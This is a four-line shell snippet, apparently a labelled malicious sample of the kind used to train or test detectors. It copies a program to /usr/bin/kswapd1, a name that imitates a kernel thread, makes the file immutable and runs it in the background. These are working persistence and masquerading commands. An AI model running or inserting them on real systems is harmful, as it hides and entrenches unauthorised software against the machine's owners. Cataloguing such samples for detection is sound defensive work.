# malicious: hides and pins a file
cp agent /usr/bin/kswapd1
chattr +i /usr/bin/kswapd1
/usr/bin/kswapd1 &
